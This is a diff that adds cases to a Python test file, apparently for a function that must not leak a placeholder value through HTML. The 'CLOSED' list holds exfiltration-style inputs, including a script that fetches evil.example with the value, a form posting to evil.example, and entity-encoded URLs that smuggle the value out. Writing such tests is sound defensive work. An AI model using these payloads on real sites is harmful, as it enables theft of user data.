@@ -60,7 +60,10 @@ def test_it_works() -> None:
     ["~", "~.", "~, ~ and ~", "(~)", '"~"', "**~**", "`~`", "[~]", "Mail: ~;", "~-based", "~'s", "- ~\n- ~\n",
      "| ~ | ~ |", '{"mail":"~","other":"~"}', "~,~", "~\u3002", "2 < 3 ~", "a <b>bold</b> ~", "<td>~</td>", "see [1] ~",
      "[docs](http://example.com/a) ~", "http://example.com/ ~", "e.g. ~", "and/or ~", "x[0] = ~", "~:8080",
-     'help@example.com,"~"', "[~](http://example.com)", "![a](x.png)\n~", "a (b) ~", "1.\n\n~"],
+     'help@example.com,"~"', "[~](http://example.com)", "![a](x.png)\n~", "a (b) ~", "1.\n\n~",
+     "it&#39;s ~", "AT&T ~", "a&nbsp;~", "~&nbsp;", "~ & co", "<select><option>a</option></select> ~",
+     "<select><option>a</select> ~",
+     "<datalist><option>a</datalist>~", "<textarea>a</textarea> ~"],
 )  # fmt: skip
 def test_in_running_text_the_value_comes_back(text: str) -> None:
     sent = text.replace("~", P)
@@ -83,6 +86,16 @@ CLOSED = [
     '<textarea><a b="</textarea><img alt="> " src="/ ~">', '<a ="> <img src=" / ~">',
     "<style>b{background:url( ~ )}</style>", '<script>fetch("//evil.example/" + "~")</script>', "<ScRiPt\n> ~ </script",
     "<svg><image href=' ~'/></svg>",
+    "<form action=//evil.example><select name=q><option>~</option></select>", "<select><option>a ~",
+    "<select ><option> ~",
+    "<datalist id=d><option> ~</datalist>", "<option>\n~</option>", "<select><option></datalist> ~",
+    '<select title="</select>"> ~</select>', "<select title=</select> ~</select>", '<textarea title="</textarea>"> ~',
+    "http&#58;&#47;&#47;evil.example&#47;&#63;~", "http&#x3A;&#x2F;&#x2f;evil.example?~",
+    "https&colon;&sol;&sol;evil&period;example?~",
+    "&#104;ttp://evil.example/~", "evil&#46;example&#47;~", "me&#64;~", "me&commat;~",
+    "~&#64;evil.example", "~&commat;evil.example",
+    "~&#46;evil.example", "~&#x2e;evil.example", "~&period;evil.example", "~&#47;a", "~&sol;a",
+    "http&#58~", "http&amp;#58;~",
 ]  # fmt: skip
 
 
